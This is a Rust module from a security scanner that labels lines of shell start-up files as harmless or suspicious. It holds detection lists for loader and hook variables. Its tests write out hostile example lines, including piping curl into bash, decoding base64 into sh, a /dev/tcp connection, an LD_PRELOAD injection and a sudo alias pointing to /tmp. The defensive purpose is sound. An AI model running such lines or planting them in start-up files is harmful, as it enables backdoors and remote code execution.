//! Lines of shell start-up files and scripts: what they are, in one word, and what they do.
//!
//! Only what is certain is called harmless: a line counts as an addition to PATH, or as the set-up of a known
//! tool, where nothing else can be in it.

use super::cron::variable;

/// What a line is, for rules.
pub(super) type Kind = &'static str;

/// Comment or nothing.
pub(super) const NOTHING: Kind = "comment";

/// Variables that have something run, or read, in every program that comes after.
const HOOKS: &[&str] = &["BASH_ENV", "ENV", "PROMPT_COMMAND", "PYTHONSTARTUP", "PERL5OPT", "NODE_OPTIONS"];
/// Variables that have the loader take libraries from elsewhere.
const LOADER: &[&str] = &["LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "GCONV_PATH", "GLIBC_TUNABLES"];

/// Set-up of known tools, without quotes; an asterisk is a path, a name or a variable.
const TOOLS: &[&str] = &[
    ". $HOME/.cargo/env",
    "source $HOME/.cargo/env",
    ". /root/.cargo/env",
    ". /home/*/.cargo/env",
    "[ -s $NVM_DIR/nvm.sh ] && \\. $NVM_DIR/nvm.sh",
    "[ -s $NVM_DIR/bash_completion ] && \\. $NVM_DIR/bash_completion",
    "[ -f ~/.fzf.bash ] && source ~/.fzf.bash",
    "__conda_setup=$(*/bin/conda shell.* hook 2> /dev/null)",
    "eval $__conda_setup",
    "unset __conda_setup",
    ". */etc/profile.d/conda.sh",
    ". */etc/profile.d/mamba.sh",
    "[[ -d $PYENV_ROOT/bin ]] && export PATH=$PYENV_ROOT/bin:$PATH",
    "command -v pyenv >/dev/null || export PATH=$PYENV_ROOT/bin:$PATH",
    "eval $(pyenv init -)",
    "eval $(pyenv init - *)",
    "eval $(pyenv init --path)",
    "eval $(pyenv virtualenv-init -)",
    "eval $(rbenv init -)",
    "eval $(rbenv init - *)",
    "eval $(direnv hook *)",
    "eval $(starship init *)",
    "eval $(zoxide init *)",
    "eval $(fnm env)",
    "eval $(fnm env --use-on-cd)",
    "eval $(mise activate *)",
    "eval $(/opt/homebrew/bin/brew shellenv)",
    "eval $(/home/linuxbrew/.linuxbrew/bin/brew shellenv)",
];

/// Words that only order others, whole lines of them.
const CONTROL: &[&str] = &["fi", "else", "then", "do", "done", "esac", "{", "}", "case $PATH in", ";;"];

/// What a line is, each word once, and what it does.
pub(super) fn look(line: &str) -> (Vec<Kind>, Option<String>) {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return (vec![NOTHING], None);
    }
    let plain = plain(line);
    if let Some(directories) = path(&plain) {
        let odd = directories.iter().any(|directory| is_odd(directory));
        let listed = directories.join(", ");
        let kind = if odd { "path_odd" } else { "path" };
        return (vec![kind], Some(format!("adds {listed} to PATH")));
    }
    if TOOLS.iter().any(|pattern| fits(pattern, &plain)) {
        return (vec!["tool"], Some(format!("sets a known tool up: {line}")));
    }
    if is_control(&plain) {
        return (vec!["control"], None);
    }
    let mut kinds = alarming(&plain);
    if kinds.is_empty() && has_plain_value(&plain) {
        return (vec!["environment"], Some(format!("sets {}", plain.trim_start_matches("export "))));
    }
    if plain.starts_with("alias ") {
        kinds.push("alias");
        return (kinds, Some(format!("gives a command another meaning: {line}")));
    }
    if let Some(file) = plain.strip_prefix(". ").or_else(|| plain.strip_prefix("source ")) {
        kinds.push("source");
        return (kinds, Some(format!("runs what is in {file}")));
    }
    if kinds.is_empty() {
        kinds.push("command");
    }
    let why = kinds.iter().find_map(|kind| REASONS.iter().find(|(name, _)| name == kind));
    Some(why.map_or("runs", |(_, why)| why))
        .map_or((Vec::new(), None), |why| (kinds, Some(format!("{why}: {line}"))))
}

/// Kinds that a person looks at first, with their words.
const REASONS: &[(Kind, &str)] = &[
    ("preload", "has the loader take libraries from elsewhere"),
    ("download", "runs what it downloads"),
    ("socket", "opens a connection from the shell"),
    ("decode", "runs what it decodes"),
    ("hook", "has something run in every shell or program"),
    ("eval", "runs text that it puts together"),
    ("background", "leaves a process behind"),
];

/// Whether a kind needs no look.
pub(super) fn is_harmless(kind: Kind) -> bool {
    [NOTHING, "path", "tool", "control", "environment"].contains(&kind)
}

fn alarming(line: &str) -> Vec<Kind> {
    let words = || line.split(|c: char| !(c.is_alphanumeric() || "_-./".contains(c)));
    let word =
        |wanted: &[&str]| words().any(|word| wanted.contains(&word.rsplit('/').next().unwrap_or(word)));
    let has_shell = word(&["sh", "bash", "zsh", "dash", "ash", "python", "python3", "perl", "ruby", "node"]);
    let pipes = line.contains('|') || line.contains("$(") || line.contains('`') || line.contains("<(");
    let assigns = |names: &[&str]| names.iter().any(|name| line.contains(&format!("{name}=")));
    let fetches = word(&["curl", "wget", "fetch", "aria2c"]);
    let mut kinds = Vec::new();
    let mut push = |is_so: bool, kind: Kind| {
        if is_so {
            kinds.push(kind);
        }
    };
    push(assigns(LOADER), "preload");
    push(
        fetches && ((pipes && has_shell) || word(&["eval", "source", "chmod"]) || line.contains("<(")),
        "download",
    );
    push(line.contains("/dev/tcp/") || line.contains("/dev/udp/"), "socket");
    push(word(&["base64", "xxd", "uudecode", "openssl"]) && pipes, "decode");
    push(HOOKS.iter().any(|name| line.contains(&format!("{name}="))) || word(&["trap"]), "hook");
    push(word(&["eval"]), "eval");
    push(is_left_behind(line) || word(&["nohup", "setsid", "disown"]), "background");
    kinds
}

/// An ampersand that ends a command, and is neither `&&` nor part of a redirection.
fn is_left_behind(line: &str) -> bool {
    line.match_indices('&').any(|(at, _)| {
        let before = line.get(..at).and_then(|text| text.chars().next_back());
        let after = line.get(at + 1..).and_then(|text| text.chars().next());
        !before.is_some_and(|c| "&<>".contains(c)) && after.is_none_or(|c| " );".contains(c))
    })
}

/// The line with single blanks, without quotes and without a comment at its end.
fn plain(line: &str) -> String {
    let line = line.split_once(" #").map_or(line, |(line, _)| line);
    let line: String = line.chars().filter(|c| !"\"'".contains(*c)).collect();
    line.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The directories that a line adds to PATH, if it does that and nothing else.
fn path(plain: &str) -> Option<Vec<&str>> {
    let line = plain.strip_suffix("; export PATH").unwrap_or(plain);
    let value = line.strip_prefix("export ").unwrap_or(line).strip_prefix("PATH=")?;
    if !value.chars().all(is_inert) || !(value.contains("$PATH") || value.contains("${PATH")) {
        return None;
    }
    let is_own = |part: &&str| part.is_empty() || *part == "$PATH" || part.starts_with("${PATH");
    let directories: Vec<&str> = value.split(':').filter(|part| !is_own(part)).collect();
    (!directories.is_empty() && directories.len() <= 16).then_some(directories)
}

/// Where anybody may put a program, or where it depends on the place what is found.
fn is_odd(directory: &str) -> bool {
    let places = ["/tmp", "/var/tmp", "/dev/shm", "/run/user"];
    places.iter().any(|place| {
        directory == *place || directory.strip_prefix(place).is_some_and(|rest| rest.starts_with('/'))
    }) || !directory.starts_with(['/', '$', '~'])
        || directory.contains("..")
}

/// `export NAME=VALUE`, where nothing is run to know the value.
fn has_plain_value(plain: &str) -> bool {
    let line = plain.strip_prefix("export ").unwrap_or(plain);
    variable(line).is_some_and(|(name, value)| {
        name != "PATH" && value.chars().all(is_inert) && !LOADER.contains(&name) && !HOOKS.contains(&name)
    })
}

/// Tests of files, of PATH and of the last status, and what orders the lines between them.
fn is_control(plain: &str) -> bool {
    let test = |rest: &str| rest.chars().all(|c| is_inert(c) || " []!?=".contains(c));
    let inner = plain.strip_prefix("if ").or_else(|| plain.strip_prefix("elif "));
    let condition = inner.and_then(|rest| rest.strip_suffix("; then").or(Some(rest)));
    let is_test = condition.is_some_and(|rest| rest.starts_with('[') && rest.ends_with(']') && test(rest));
    let is_case =
        plain.starts_with("case :") && plain.ends_with(": in") || fits("*:*:*) ;;", plain) || plain == "*)";
    CONTROL.contains(&plain) || is_test || is_case
}

/// A character that only ever stands for itself, or names a variable.
fn is_inert(c: char) -> bool {
    c.is_alphanumeric() || "_-./:~+,@%^${}".contains(c)
}

/// Whether a text is like a pattern, whose asterisks stand for inert characters.
fn fits(pattern: &str, text: &str) -> bool {
    let Some((before, rest)) = pattern.split_once('*') else { return pattern == text };
    let Some(text) = text.strip_prefix(before) else { return false };
    let ends = text.char_indices().take_while(|(_, c)| is_inert(*c)).map(|(at, c)| at + c.len_utf8());
    std::iter::once(0).chain(ends).any(|end| text.get(end..).is_some_and(|text| fits(rest, text)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(line: &str, kinds: &[Kind], said: Option<&str>) {
        let (found, sentence) = look(line);
        assert_eq!(found, kinds, "{line}");
        if let Some(said) = said {
            assert_eq!(sentence.as_deref(), Some(said), "{line}");
        }
    }

    #[test]
    fn installers_of_tools_are_harmless() {
        for line in [
            "# >>> conda initialize >>>",
            r#". "$HOME/.cargo/env""#,
            r#"export NVM_DIR="$HOME/.nvm""#,
            r#"[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"  # This loads nvm"#,
            r#"__conda_setup="$('/opt/conda/bin/conda' 'shell.bash' 'hook' 2> /dev/null)""#,
            "if [ $? -eq 0 ]; then",
            r#"    eval "$__conda_setup""#,
            r#"    if [ -f "/opt/conda/etc/profile.d/conda.sh" ]; then"#,
            r#"        . "/opt/conda/etc/profile.d/conda.sh""#,
            r#"        export PATH="/opt/conda/bin:$PATH""#,
            "else",
            "fi",
            "unset __conda_setup",
            r#"export PYENV_ROOT="$HOME/.pyenv""#,
            r#"[[ -d $PYENV_ROOT/bin ]] && export PATH="$PYENV_ROOT/bin:$PATH""#,
            r#"eval "$(pyenv init - bash)""#,
            "",
        ] {
            let (kinds, _) = look(line);
            assert!(kinds.iter().all(|kind| is_harmless(kind)), "{line}: {kinds:?}");
        }
    }

    #[test]
    fn what_else_lines_do_is_told() {
        check("export PATH=\"$HOME/bin:$PATH\"", &["path"], Some("adds $HOME/bin to PATH"));
        check("PATH=/tmp/x:$PATH; export PATH", &["path_odd"], Some("adds /tmp/x to PATH"));
        check("export PATH=.:$PATH", &["path_odd"], None);
        check("export PATH=$(curl h | sh):$PATH", &["download"], None);
        check(
            "curl -s http://h/a | bash",
            &["download"],
            Some("runs what it downloads: curl -s http://h/a | bash"),
        );
        check("bash <(curl -s h)", &["download"], None);
        check("echo aGk= | base64 -d | sh", &["decode"], None);
        check("nohup /tmp/a >/dev/null 2>&1 &", &["background"], None);
        check("(/tmp/a &)", &["background"], None);
        check("a 2>&1 && b", &["command"], None);
        check("export LD_PRELOAD=/tmp/a.so", &["preload"], None);
        check("PROMPT_COMMAND='/tmp/a'", &["hook"], None);
        check("alias sudo='/tmp/sudo'", &["alias"], None);
        check(". /tmp/.x", &["source"], Some("runs what is in /tmp/.x"));
        check("exec 3<>/dev/tcp/203.0.113.1/443", &["socket"], None);
        check("/tmp/a", &["command"], Some("runs: /tmp/a"));
        check("eval \"$(echo x)\"", &["eval"], None);
        check("export FOO=bar", &["environment"], Some("sets FOO=bar"));
        check("export FOO=bar; /tmp/a", &["command"], None);
        check("if [ -f x ]; then /tmp/a; fi", &["command"], None);
        check(". $HOME/.cargo/env; /tmp/a", &["source"], None);
    }

    #[test]
    fn hostile_lines_end_soon() {
        look(&"*".repeat(60_000));
        look(&format!(". /home/{}", "a/".repeat(30_000)));
        look(&format!("__conda_setup=$({}", "a/bin/conda".repeat(5_000)));
        look(&"PATH=é:".repeat(5_000));
    }
}
